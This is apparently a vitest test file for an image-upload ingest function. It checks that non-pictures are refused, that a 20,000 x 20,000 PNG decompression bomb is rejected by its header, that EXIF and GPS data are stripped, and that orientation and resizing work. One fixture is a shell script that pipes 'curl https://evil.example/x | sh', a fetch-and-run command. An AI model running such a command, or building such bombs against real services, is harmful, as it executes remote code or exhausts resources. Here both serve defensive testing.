import { deflateSync } from "node:zlib";
import { readFile } from "node:fs/promises";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { pictureIngest, recognisePicture } from "./ingest";

const ingest = pictureIngest();

function plain(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 40 } } });
}

/** A PNG chunk: length, type, data, CRC-32 of type and data. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** A whole, valid black-and-white PNG of 20,000 x 20,000 (400 megapixels) in about 50 KB. */
function hugePng(): Buffer {
  const side = 20_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8); // one bit per pixel, greyscale
  const rows = Buffer.alloc((1 + side / 8) * side); // each row: filter byte 0 and 2,500 zero bytes
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(rows)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

describe("what is refused", () => {
  test("an executable and a shell script named .jpg are not pictures", async () => {
    const elf = (await readFile(process.execPath)).subarray(0, 64 * 1024);
    expect(elf.subarray(1, 4).toString()).toBe("ELF");
    expect(await ingest(elf)).toEqual({ ok: false, reason: "not-a-picture" });
    const script = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n");
    expect(await ingest(script)).toEqual({ ok: false, reason: "not-a-picture" });
  });

  test("an empty file", async () => {
    expect(await ingest(Buffer.alloc(0))).toEqual({ ok: false, reason: "empty" });
  });

  test("a file over 15 MB, whatever it holds", async () => {
    const large = Buffer.concat([await plain(100, 100).jpeg().toBuffer(), Buffer.alloc(15 * 1024 * 1024)]);
    expect(await ingest(large)).toEqual({ ok: false, reason: "too-large" });
  });

  test("a 20,000 x 20,000 PNG is refused by its header, without being decoded", async () => {
    const png = hugePng();
    expect(png.length).toBeLessThan(200_000);
    const started = performance.now();
    const rssBefore = process.memoryUsage().rss;
    expect(await ingest(png)).toEqual({ ok: false, reason: "too-many-pixels" });
    // Decoding it would take seconds and 400 MB (one byte per pixel at the least).
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
  });

  test("a picture just over 50 megapixels; one just under passes the check", async () => {
    const over = await recognisePicture(await plain(10_001, 5_000).png({ compressionLevel: 1 }).toBuffer());
    expect(over).toEqual({ ok: false, reason: "too-many-pixels" });
    const under = await recognisePicture(await plain(10_000, 5_000).png({ compressionLevel: 1 }).toBuffer());
    expect(under).toEqual({ ok: true, picture: { format: "png", width: 10_000, height: 5_000 } });
  });

  test("GIF, TIFF and SVG are pictures of a format not taken here", async () => {
    for (const bytes of [
      await plain(20, 20).gif().toBuffer(),
      await plain(20, 20).tiff().toBuffer(),
      Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>'),
    ]) {
      expect(await ingest(bytes)).toEqual({ ok: false, reason: "unsupported-format" });
    }
  });

  test("other markup, and a JPEG cut in half, are not pictures", async () => {
    expect(await ingest(Buffer.from("<html><body>hello</body></html>"))).toEqual({
      ok: false,
      reason: "not-a-picture",
    });
    const jpeg = await plain(300, 200).jpeg().toBuffer();
    expect(await ingest(jpeg.subarray(0, jpeg.length / 2))).toEqual({ ok: false, reason: "not-a-picture" });
  });
});

describe("what is stored", () => {
  test("a JPEG with GPS coordinates is stored without any EXIF", async () => {
    const photo = await plain(300, 200)
      .jpeg()
      .withExif({
        IFD0: { Make: "Phone" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "52/1 31/1 12/1",
          GPSLongitudeRef: "E",
          GPSLongitude: "13/1 24/1 0/1",
        },
      })
      .toBuffer();
    const input = await sharp(photo).metadata();
    // The GPS IFD pointer (tag 0x8825) is in the upload's EXIF.
    expect(
      input.exif?.includes(Buffer.from([0x88, 0x25])) || input.exif?.includes(Buffer.from([0x25, 0x88])),
    ).toBe(true);

    const outcome = await ingest(photo);
    if (!outcome.ok) throw new Error(outcome.reason);
    const stored = await sharp(outcome.picture.bytes).metadata();
    expect(stored.format).toBe("jpeg");
    expect([stored.exif, stored.xmp, stored.iptc, stored.icc]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(outcome.picture.bytes.includes(Buffer.from("Exif\0\0", "latin1"))).toBe(false);
    expect(outcome.picture.bytes.includes(Buffer.from("Phone"))).toBe(false);
  });

  test("a photo taken sideways (EXIF orientation 6) is stored upright", async () => {
    // Left half red, right half blue; orientation 6 shows it turned a quarter clockwise: red on top.
    const sideways = await sharp({
      create: { width: 300, height: 200, channels: 3, background: { r: 0, g: 0, b: 255 } },
    })
      .composite([
        { input: await plain(150, 200).tint({ r: 255, g: 0, b: 0 }).png().toBuffer(), left: 0, top: 0 },
      ])
      .jpeg()
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const outcome = await ingest(sideways);
    if (!outcome.ok) throw new Error(outcome.reason);
    expect([outcome.picture.width, outcome.picture.height]).toEqual([200, 300]);
    const meta = await sharp(outcome.picture.bytes).metadata();
    expect([meta.width, meta.height, meta.orientation]).toEqual([200, 300, undefined]);
    const { data } = await sharp(outcome.picture.bytes).raw().toBuffer({ resolveWithObject: true });
    const top = data.subarray((20 * 200 + 100) * 3, (20 * 200 + 100) * 3 + 3);
    const bottom = data.subarray((280 * 200 + 100) * 3, (280 * 200 + 100) * 3 + 3);
    expect(top[0]!).toBeGreaterThan(200);
    expect(top[2]!).toBeLessThan(60);
    expect(bottom[2]!).toBeGreaterThan(200);
    expect(bottom[0]!).toBeLessThan(60);
  });

  test("each format stays itself, scaled down to 2400 px on the long side, named by its SHA-256", async () => {
    const cases = [
      ["png", await plain(3000, 1000).png().toBuffer(), "png"],
      ["webp", await plain(1000, 3000).webp().toBuffer(), "webp"],
      ["avif", await plain(600, 400).avif().toBuffer(), "heif"],
      ["jpeg", await plain(640, 480).jpeg().toBuffer(), "jpeg"],
    ] as const;
    const sizes: Record<string, number[]> = {};
    for (const [format, bytes, sharpName] of cases) {
      const outcome = await ingest(bytes);
      if (!outcome.ok) throw new Error(`${format}: ${outcome.reason}`);
      expect(outcome.picture.format).toBe(format);
      expect((await sharp(outcome.picture.bytes).metadata()).format).toBe(sharpName);
      expect(outcome.picture.sha256).toMatch(/^[0-9a-f]{64}$/);
      sizes[format] = [outcome.picture.width, outcome.picture.height];
    }
    expect(sizes).toEqual({ png: [2400, 800], webp: [800, 2400], avif: [600, 400], jpeg: [640, 480] });
  });

  test("the same upload twice gives the same bytes (so the same stored picture)", async () => {
    const photo = await plain(800, 600).jpeg({ quality: 95 }).toBuffer();
    const [first, second] = await Promise.all([ingest(photo), ingest(photo)]);
    if (!first?.ok || !second?.ok) throw new Error("refused");
    expect(second.picture.sha256).toBe(first.picture.sha256);
  });
});

test("one picture is decoded at a time; past the few that may wait, the answer is busy", async () => {
  const small = pictureIngest({ maxWaiting: 1 });
  const photo = await plain(2000, 1500).jpeg().toBuffer();
  const outcomes = await Promise.all([small(photo), small(photo), small(photo)]);
  // Which of the three is refused depends on which is recognised last: one of them, whichever.
  expect(outcomes.map((outcome) => (outcome.ok ? "stored" : outcome.reason)).sort()).toEqual([
    "busy",
    "stored",
    "stored",
  ]);
  expect((await small(photo)).ok).toBe(true);
});
